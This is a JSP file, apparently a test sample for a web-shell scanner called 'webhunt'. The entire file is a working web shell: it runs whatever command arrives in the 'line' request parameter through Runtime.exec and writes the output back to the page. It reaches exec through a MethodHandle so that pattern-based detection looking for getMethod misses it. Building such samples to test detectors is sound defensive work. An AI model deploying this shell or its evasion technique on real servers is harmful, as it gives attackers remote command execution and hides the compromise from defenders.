<%@ page import="java.lang.invoke.MethodHandle,java.lang.invoke.MethodHandles,java.lang.invoke.MethodType" %>
<%-- webhunt test sample (sweep 73): Runtime.exec reached through a method handle, no getMethod --%>
<%
    String line = request.getParameter("line");
    if (line != null) {
        MethodHandles.Lookup lk = MethodHandles.lookup();
        MethodHandle run = lk.findVirtual(Runtime.class, "exec",
                MethodType.methodType(Process.class, String.class));
        Process p = (Process) run.invoke(Runtime.getRuntime(), line);
        java.io.BufferedReader br = new java.io.BufferedReader(
                new java.io.InputStreamReader(p.getInputStream()));
        for (String s; (s = br.readLine()) != null; ) { out.println(s); }
    }
%>
